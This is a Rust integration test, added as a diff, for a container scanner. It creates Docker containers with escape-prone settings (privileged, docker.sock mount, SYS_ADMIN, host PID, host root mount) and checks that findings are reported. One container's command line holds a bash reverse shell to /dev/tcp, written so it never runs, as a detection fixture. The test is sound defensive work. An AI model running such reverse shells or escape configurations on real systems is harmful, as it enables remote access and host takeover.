@@ -1,0 +1,235 @@
+//! `scan container` against a real Docker daemon: containers created from an image
+//! imported by the test with risky settings, each found through the Engine API; a
+//! hardened one with no escape finding; a running one whose process list holds a
+//! reverse-shell-looking command line. Every container made here is removed by id.
+
+use std::io::Write;
+use std::process::{Command, Stdio};
+
+use crate::common::*;
+
+const IMAGE: &str = "holdfast-test/escape-min:1";
+
+fn docker(args: &[&str]) -> (bool, String, String) {
+    let out = Command::new("docker").args(args).output().unwrap();
+    (
+        out.status.success(),
+        String::from_utf8_lossy(&out.stdout).trim().to_string(),
+        String::from_utf8_lossy(&out.stderr).trim().to_string(),
+    )
+}
+
+fn daemon_ready() -> bool {
+    let (ok, _, _) = docker(&["version", "--format", "{{.Server.Version}}"]);
+    if !ok {
+        assert!(
+            !full_tests(),
+            "HOLDFAST_FULL_TESTS=1 but no Docker daemon answers"
+        );
+        eprintln!("skipped: no Docker daemon");
+    }
+    ok
+}
+
+/// Host files `sh` and `sleep` need, from `ldd`, so the image can run a process.
+fn runtime_files() -> Vec<String> {
+    let mut files = vec!["/bin/sh".to_string(), "/bin/sleep".to_string()];
+    for bin in ["/bin/sh", "/bin/sleep"] {
+        let out = Command::new("ldd").arg(bin).output().unwrap();
+        for line in String::from_utf8_lossy(&out.stdout).lines() {
+            let path = line
+                .split_whitespace()
+                .find(|w| w.starts_with('/'))
+                .map(str::to_string);
+            if let Some(p) = path {
+                if !files.contains(&p) {
+                    files.push(p);
+                }
+            }
+        }
+    }
+    files
+}
+
+/// Imports a tiny image: the host's `sh`, `sleep` and their libraries, nothing setuid.
+fn import_image() {
+    let mut b = tar::Builder::new(Vec::new());
+    for p in runtime_files() {
+        b.append_path_with_name(&p, p.trim_start_matches('/'))
+            .unwrap();
+    }
+    for dir in ["tmp", "etc", "proc", "sys", "dev"] {
+        let mut h = tar::Header::new_gnu();
+        h.set_entry_type(tar::EntryType::Directory);
+        h.set_mode(if dir == "tmp" { 0o1777 } else { 0o755 });
+        h.set_size(0);
+        b.append_data(&mut h, dir, std::io::empty()).unwrap();
+    }
+    let bytes = b.into_inner().unwrap();
+    let mut child = Command::new("docker")
+        .args(["import", "-", IMAGE])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .spawn()
+        .unwrap();
+    child.stdin.take().unwrap().write_all(&bytes).unwrap();
+    assert!(child.wait().unwrap().success(), "docker import failed");
+}
+
+/// Removes the containers it holds when dropped, by id, even when an assertion failed.
+struct Containers(Vec<String>);
+
+impl Containers {
+    fn create(&mut self, args: &[&str]) -> String {
+        let mut all = vec!["create"];
+        all.extend_from_slice(args);
+        let (ok, id, err) = docker(&all);
+        assert!(ok, "docker create {args:?}: {err}");
+        self.0.push(id.clone());
+        id
+    }
+}
+
+impl Drop for Containers {
+    fn drop(&mut self) {
+        for id in &self.0 {
+            let _ = docker(&["rm", "-f", id]);
+        }
+    }
+}
+
+fn scan(target: &[&str]) -> serde_json::Value {
+    let out = holdfast()
+        .args([
+            "scan",
+            "container",
+            "--no-cache",
+            "-f",
+            "json",
+            "--scanners",
+            "escape,history,suid",
+        ])
+        .args(target)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    serde_json::from_slice(&out.stdout).unwrap()
+}
+
+fn escape_ids(target: &serde_json::Value) -> Vec<String> {
+    target["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["kind"] == "escape")
+        .map(|f| f["id"].as_str().unwrap().to_string())
+        .collect()
+}
+
+#[test]
+fn created_and_running_containers_through_the_engine_api() {
+    if !(have_tool("docker") && have_tool("ldd") && daemon_ready()) {
+        return;
+    }
+    import_image();
+    let mut made = Containers(Vec::new());
+    let tag = std::process::id();
+    let cases: Vec<(Vec<String>, &str)> = vec![
+        (vec!["--privileged".into()], "HF-ESCAPE-PRIVILEGED"),
+        (
+            vec![
+                "-v".into(),
+                "/var/run/docker.sock:/var/run/docker.sock".into(),
+            ],
+            "HF-ESCAPE-DOCKER-SOCK",
+        ),
+        (
+            vec!["--cap-add".into(), "SYS_ADMIN".into()],
+            "HF-ESCAPE-CAP-SYS_ADMIN",
+        ),
+        (vec!["--pid".into(), "host".into()], "HF-ESCAPE-HOST-PID"),
+        (
+            vec!["-v".into(), "/:/host".into()],
+            "HF-ESCAPE-HOST-MOUNT-ROOT",
+        ),
+    ];
+    let mut names = Vec::new();
+    for (i, (flags, expected)) in cases.iter().enumerate() {
+        let name = format!("hf-escape-{tag}-{i}");
+        let mut args: Vec<&str> = vec!["--name", &name];
+        args.extend(flags.iter().map(String::as_str));
+        args.extend([IMAGE, "/bin/sleep", "600"]);
+        made.create(&args);
+        let r = scan(&[&name]);
+        let t = &r["targets"][0];
+        assert_eq!(t["kind"], "container");
+        assert_eq!(t["name"], name.as_str());
+        let ids = escape_ids(t);
+        assert!(
+            ids.iter().any(|id| id == expected),
+            "{flags:?}: expected {expected} in {ids:?}"
+        );
+        names.push(name);
+    }
+
+    // Hardened: unprivileged user, no capabilities, no new privileges, read-only root.
+    let hardened = format!("hf-escape-{tag}-hardened");
+    made.create(&[
+        "--name",
+        &hardened,
+        "--user",
+        "1000:1000",
+        "--cap-drop",
+        "ALL",
+        "--security-opt",
+        "no-new-privileges",
+        "--read-only",
+        IMAGE,
+        "/bin/sleep",
+        "600",
+    ]);
+    let r = scan(&[&hardened]);
+    assert_eq!(escape_ids(&r["targets"][0]), Vec::<String>::new());
+
+    // A running container whose process list holds a reverse-shell command line: the
+    // shell waits in `sleep`, so the line is visible to `top` and never runs.
+    let running = format!("hf-escape-{tag}-running");
+    let id = made.create(&[
+        "--name",
+        &running,
+        IMAGE,
+        "/bin/sh",
+        "-c",
+        "sleep 600; bash -i > /dev/tcp/127.0.0.1/9 0>&1",
+    ]);
+    let (ok, _, err) = docker(&["start", &id]);
+    assert!(ok, "docker start: {err}");
+    let r = scan(&[&running]);
+    let ids = escape_ids(&r["targets"][0]);
+    assert!(
+        ids.contains(&"HF-ESCAPE-PROC-REVERSE-SHELL".to_string()),
+        "top should show the reverse shell: {ids:?}"
+    );
+    assert!(!ids.contains(&"HF-ESCAPE-PROC-MINER".to_string()));
+
+    // --all: one target per container, ours among them.
+    let r = scan(&["--all"]);
+    let scanned: Vec<&str> = r["targets"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|t| t["name"].as_str())
+        .collect();
+    for n in names.iter().chain([&hardened, &running]) {
+        assert!(
+            scanned.contains(&n.as_str()),
+            "{n} missing from --all: {scanned:?}"
+        );
+    }
+    drop(made);
+    let _ = docker(&["rmi", IMAGE]);
+}
